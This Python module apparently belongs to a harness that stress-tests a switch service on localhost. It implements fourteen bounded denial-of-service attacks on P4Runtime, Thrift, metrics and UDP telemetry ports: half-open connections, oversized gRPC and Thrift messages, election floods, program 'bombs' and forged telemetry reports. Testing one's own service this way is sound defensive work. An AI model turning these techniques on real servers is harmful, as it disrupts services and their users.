"""The attacks. Each runs for some seconds against a server's ports and counts what it did.

An attack keeps at most 1000 connections open and waits a millisecond between rounds, so that its
load is bounded in count and in time.
"""

from __future__ import annotations

import contextlib
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent))

from attacks import messages
from attacks.http2 import Connection, message, open_connection
from telemetry.handmade_reports import path_report

MIB = 1 << 20


@dataclass(frozen=True)
class Target:
    """Where the attacked service listens, and what the attacks on programs need.

    Attributes:
        p4runtime: the port of P4Runtime.
        metrics: the port of the metrics.
        thrift: the port of Thrift.
        telemetry: the UDP port for telemetry reports.
        p4info: the file with the P4Info of ``bomb``, in binary.
        bomb: the file with a small program that declares billions of cells.
    """

    p4runtime: int = 0
    metrics: int = 0
    thrift: int = 0
    telemetry: int = 0
    p4info: str = ""
    bomb: str = ""


Counts = dict[str, int]
Attack = Callable[[Target, float], Counts]


def rounds(seconds: float) -> Iterator[int]:
    """Counts rounds until the time is over, and waits a millisecond after each round."""
    end = time.monotonic() + seconds
    number = 0
    while time.monotonic() < end:
        yield number
        number += 1
        time.sleep(0.001)


class Crowd:
    """Up to ``size`` connections, each replaced when the server closes it."""

    def __init__(self, port: int, size: int, window: int = 65535) -> None:
        self._port, self._size, self._window = port, size, window
        self.open: list[Connection] = []
        self.counts = {"connections": 0, "closed by server": 0, "MB sent": 0}
        self._sent = 0

    def fill(self) -> list[Connection]:
        """Opens the missing connections and returns the new ones."""
        for one in self.open:
            if one.is_closed:
                self.counts["closed by server"] += 1
                self._sent += one.sent
        self.open = [one for one in self.open if not one.is_closed]
        new = []
        # A few connections in each round: a server that refuses them would otherwise see only a
        # flood of SYNs.
        while len(self.open) + len(new) < self._size and len(new) < 8:
            connection = open_connection(self._port, self._window)
            if connection is None:
                break
            self.counts["connections"] += 1
            new.append(connection)
        self.open += new
        return new

    def turn(self) -> None:
        """Lets each connection send and receive as much as possible."""
        for connection in self.open:
            connection.turn()

    def end(self) -> Counts:
        """Closes all and returns the counts."""
        self.counts["MB sent"] = (self._sent + sum(one.sent for one in self.open)) // MIB
        for connection in self.open:
            connection.close()
        return self.counts


def unfinished_messages(target: Target, seconds: float) -> Counts:
    """Four connections with 100 calls each announce messages of 50 MB and send most of each."""
    crowd = Crowd(target.p4runtime, 4)
    updates = messages.EMPTY_UPDATE * 8192
    calls: dict[int, list[int]] = {}
    for _ in rounds(seconds):
        for connection in crowd.fill():
            streams = [connection.call("Write") for _ in range(100)]
            calls[id(connection)] = streams
            for stream in streams:
                connection.send(stream, message(b"", announced=50 * MIB))
        for connection in crowd.open:
            for stream in calls[id(connection)]:
                if stream not in connection.ended and not connection.has_left(stream):
                    connection.send(stream, updates)
        crowd.turn()
    return crowd.end()


def unread_answers(target: Target, seconds: float) -> Counts:
    """A role's primary bids again and again with a config of 64 KB; 16 backups read no answer."""
    crowd = Crowd(target.p4runtime, 2, window=0)
    # Role configs of Stratum's form: a packet-in filter with a value of 64 000 bytes.
    config = messages.part(1, b"type.googleapis.com/stratum.P4RoleConfig") + messages.part(
        2, messages.part(3, messages.number(1, 1) + messages.part(2, bytes(64000)))
    )
    tops: dict[int, int] = {}
    role = 0
    bids = 0
    for _ in rounds(seconds):
        for connection in crowd.fill():
            role += 1
            for low in range(1, 17):
                stream = connection.call("StreamChannel")
                connection.send(stream, message(messages.bid(low, f"r{role % 8}")))
            tops[id(connection)] = stream
        for connection in crowd.open:
            stream = tops[id(connection)]
            if stream in connection.ended:
                connection.close()
            elif not connection.has_left(stream):
                connection.send(stream, message(messages.bid(100, f"r{role % 8}", config)))
                bids += 1
        crowd.turn()
    return {**crowd.end(), "bids": bids}


def empty_updates(target: Target, seconds: float) -> Counts:
    """Eight connections without rights repeat a message with 800 000 empty updates."""
    crowd = Crowd(target.p4runtime, 8)
    body = message(messages.write(messages.EMPTY_UPDATE * 800_000, low=77))
    current: dict[int, int] = {}
    writes = 0
    for _ in rounds(seconds):
        crowd.fill()
        for connection in crowd.open:
            stream = current.get(id(connection))
            if stream is None or stream in connection.ended:
                current[id(connection)] = stream = connection.call("Write")
                connection.send(stream, body, is_last=True)
                writes += 1
        crowd.turn()
    return {**crowd.end(), "writes": writes}


def idle_connections(target: Target, seconds: float) -> Counts:
    """1000 connections of HTTP/2 that ask for nothing."""
    crowd = Crowd(target.p4runtime, 1000)
    for _ in rounds(seconds):
        crowd.fill()
        crowd.turn()
    return crowd.end()


def half_open(port: int, start: bytes, size: int, seconds: float) -> Counts:
    """Sends the start of a request on many sockets, and never the end."""
    sockets: list[socket.socket] = []
    counts = {"connections": 0, "closed by server": 0}
    for _ in rounds(seconds):
        for one in list(sockets):
            with contextlib.suppress(BlockingIOError):
                try:
                    gone = one.recv(4096) == b""
                except BlockingIOError:
                    continue
                except OSError:
                    gone = True
                if gone:
                    counts["closed by server"] += 1
                    one.close()
                    sockets.remove(one)
        for _ in range(min(8, size - len(sockets))):
            try:
                one = socket.create_connection(("127.0.0.1", port), timeout=1)
                one.sendall(start)
            except OSError:
                continue
            one.setblocking(False)
            sockets.append(one)
            counts["connections"] += 1
    for one in sockets:
        one.close()
    return counts


def half_handshakes(target: Target, seconds: float) -> Counts:
    """1000 sockets with the first bytes of a ClientHello (RFC 8446, section 4.1.2)."""
    return half_open(target.p4runtime, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 1000, seconds)


def half_metrics(target: Target, seconds: float) -> Counts:
    """1000 half-sent requests for the metrics."""
    return half_open(target.metrics, b"GET /metrics HTTP/1.1\r\nHost: ", 1000, seconds)


def roles(target: Target, seconds: float) -> Counts:
    """New role names without end, each with the largest election id, and streams without an id."""
    largest = (1 << 64) - 1
    crowd = Crowd(target.p4runtime, 4)
    names = 0
    for number in rounds(seconds):
        for connection in crowd.fill():
            for _ in range(64):
                stream = connection.call("StreamChannel")
                connection.send(stream, message(messages.bid(None)))
        for connection in crowd.open:
            for _ in range(2):
                stream = connection.call("StreamChannel")
                connection.send(stream, message(messages.bid(largest, f"role {names}", high=largest)))
                names += 1
        crowd.turn()
        if number % 200 == 199:
            for connection in crowd.open:
                connection.close()
    return {**crowd.end(), "role names": names}


def programs(target: Target, seconds: float, text: bytes) -> Counts:
    """The primary of a role of its own requests VERIFY of a program again and again."""
    crowd = Crowd(target.p4runtime, 2)
    request = message(messages.verify(Path(target.p4info).read_bytes(), text, 1, "attacker"))
    current: dict[int, int] = {}
    requests = 0
    for _ in rounds(seconds):
        for connection in crowd.fill():
            stream = connection.call("StreamChannel")
            connection.send(stream, message(messages.bid(1, "attacker")))
        for connection in crowd.open:
            stream = current.get(id(connection), 0)
            if not stream or stream in connection.ended:
                current[id(connection)] = stream = connection.call("SetForwardingPipelineConfig")
                connection.send(stream, request, is_last=True)
                requests += 1
        crowd.turn()
    return {**crowd.end(), "requests": requests}


def many_cells(target: Target, seconds: float) -> Counts:
    """VERIFY of a small program with 30 counters and meters of 67 108 864 cells."""
    return programs(target, seconds, Path(target.bomb).read_bytes())


def long_text(target: Target, seconds: float) -> Counts:
    """VERIFY of a program whose text has 52 MB."""
    return programs(target, seconds, b"const bit<8> c = 1 + 1;\n" * (52 * MIB // 24))


def idle_calls(target: Target, seconds: float) -> Counts:
    """1000 connections to Thrift that send nothing."""
    return half_open(target.thrift, b"", 1000, seconds)


def half_calls(target: Target, seconds: float) -> Counts:
    """1000 connections to Thrift with the first half of a call."""
    return half_open(target.thrift, messages.thrift_call()[:20], 1000, seconds)


def long_calls(target: Target, seconds: float) -> Counts:
    """Eight connections to Thrift send a call whose argument has 1 GB, again and again."""
    start = messages.thrift_call()[:-1] + struct.pack(">BhI", 11, 1, 1 << 30)
    zeros, open_, counts = bytes(1 << 16), [], {"connections": 0, "closed by server": 0, "MB sent": 0}
    sent = 0
    for _ in rounds(seconds):
        while len(open_) < 8:
            try:
                one = socket.create_connection(("127.0.0.1", target.thrift), timeout=1)
                one.sendall(start)
            except OSError:
                break
            one.setblocking(False)
            open_.append(one)
            counts["connections"] += 1
        for one in list(open_):
            try:
                sent += one.send(zeros)
            except BlockingIOError:
                continue
            except OSError:
                counts["closed by server"] += 1
                one.close()
                open_.remove(one)
    for one in open_:
        one.close()
    return {**counts, "MB sent": sent // MIB}


def datagrams(port: int, seconds: float, each: Callable[[int], bytes], batch: int) -> Counts:
    """Sends ``batch`` datagrams in each round."""
    counts = {"datagrams": 0, "MB sent": 0}
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for number in rounds(seconds):
            for one in range(batch):
                sent += sender.sendto(each(number * batch + one), ("127.0.0.1", port))
            counts["datagrams"] += batch
    return {**counts, "MB sent": sent // MIB}


def junk_datagrams(target: Target, seconds: float) -> Counts:
    """Up to 8000 datagrams a second, each with 60 KB that decode to nothing."""
    junk = [random.Random(number).randbytes(60_000) for number in range(16)]
    return datagrams(target.telemetry, seconds, lambda number: junk[number % len(junk)], 8)


def forged_reports(target: Target, seconds: float) -> Counts:
    """Up to 20 000 reports a second that are valid, each of a new flow."""
    report = bytearray(path_report([1, 2, 3, 4, 5, 6]))
    place = report.index(bytes([10, 0, 1, 1]))  # The source address.

    def forged(number: int) -> bytes:
        struct.pack_into("!I", report, place, number % (1 << 32))
        return bytes(report)

    return datagrams(target.telemetry, seconds, forged, 20)


ATTACKS: dict[str, Attack] = {
    "unfinished-messages": unfinished_messages,
    "unread-answers": unread_answers,
    "empty-updates": empty_updates,
    "idle-connections": idle_connections,
    "half-handshakes": half_handshakes,
    "half-metrics": half_metrics,
    "roles": roles,
    "many-cells": many_cells,
    "long-text": long_text,
    "idle-calls": idle_calls,
    "half-calls": half_calls,
    "long-calls": long_calls,
    "junk-datagrams": junk_datagrams,
    "forged-reports": forged_reports,
}

# The needs of attacks on services other than ``weir switch``.
ON_STAND_IN = ("idle-calls", "half-calls", "long-calls")
ON_LISTENER = ("junk-datagrams", "forged-reports")

# Attacks on handshakes need a server with TLS. A client without a certificate gets no further.
WITH_TLS = ("half-handshakes",)


def main() -> None:
    """Runs one attack and prints its counts; the arguments are those that ``__main__`` passes."""
    name, seconds, target = sys.argv[1:]
    print(json.dumps(ATTACKS[name](Target(**json.loads(target)), float(seconds))))


if __name__ == "__main__":
    main()
